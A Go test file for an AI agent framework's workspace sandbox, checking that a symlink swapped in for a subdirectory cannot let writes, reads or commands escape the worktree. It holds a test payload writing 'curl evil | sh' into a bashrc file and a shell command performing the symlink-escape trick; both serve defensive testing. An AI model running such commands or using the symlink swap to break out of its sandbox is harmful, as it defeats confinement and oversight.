package workspace_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/troupe-dev/troupe/agenttypes"
	"github.com/troupe-dev/troupe/builtin/fsroot"
	"github.com/troupe-dev/troupe/builtin/tools"
)

// An agent works in a subdirectory; a confined command, which may write
// only in the worktree, turns that subdirectory into a symlink to a
// directory outside. The write tool, which runs in troupe itself with no
// confinement, refuses rather than write there, and so does the next
// command, which would run there.
func TestASubdirectorySwappedForASymlinkLetsNothingOut(t *testing.T) {
	repo := newRepo(t) // has sub/s.txt
	outside := t.TempDir()
	ws := openWith(t, runProvider(t, func(string) error { return nil }), filepath.Join(repo, "sub"), shell)
	require.Equal(t, ws.Top(), filepath.Dir(ws.Dir()))
	res, err := ws.Run(context.Background(), sh(`d=$(pwd); cd .. && mv "$d" moved && ln -s '`+outside+`' "$d"`))
	require.NoError(t, err)
	require.Equal(t, 0, res.ExitCode, res.Output)

	env := &agenttypes.Env{AgentID: "a1", Dir: ws.Dir(), Note: func(string) {}, Workspace: ws}
	ctx := agenttypes.WithEnv(context.Background(), env)
	_, err = tools.Write().Call(ctx, json.RawMessage(`{"path":"bashrc","content":"curl evil | sh\n"}`))
	require.ErrorIs(t, err, fsroot.ErrNotDir)
	_, err = tools.Read().Call(ctx, json.RawMessage(`{"path":"s.txt"}`))
	require.ErrorIs(t, err, fsroot.ErrNotDir)

	_, err = ws.Run(context.Background(), sh(`touch ran`))
	require.ErrorIs(t, err, agenttypes.ErrRunRefused)
	assert.Contains(t, err.Error(), "symlink")
	entries, err := os.ReadDir(outside)
	require.NoError(t, err)
	assert.Empty(t, entries, "nothing was written outside the workspace")
}

// A parent's command turns the directory a child is to work in into a
// symlink to outside; the child's worktree, checked out from the
// parent's state, has the same symlink there. Opening the child fails,
// and nothing is made outside.
func TestOpenRefusesAChildDirectoryThatIsASymlink(t *testing.T) {
	repo := newRepo(t)
	outside := t.TempDir()
	p := newProvider(t)
	parent := open(t, p, repo, "parent", nil)
	require.NoError(t, os.RemoveAll(filepath.Join(parent.Dir(), "sub")))
	require.NoError(t, os.Symlink(outside, filepath.Join(parent.Dir(), "sub")))
	_, err := p.Open(context.Background(), agenttypes.WorkspaceRequest{
		Run: "run-1", Agent: "child", Dir: filepath.Join(parent.Dir(), "sub"), Parent: parent,
	})
	require.ErrorIs(t, err, agenttypes.ErrWorkspace)
	require.ErrorIs(t, err, fsroot.ErrNotDir)
	entries, err := os.ReadDir(outside)
	require.NoError(t, err)
	assert.Empty(t, entries)
	assert.Len(t, worktrees(t, repo), 2, "the child's worktree is gone, the parent's stays")
}
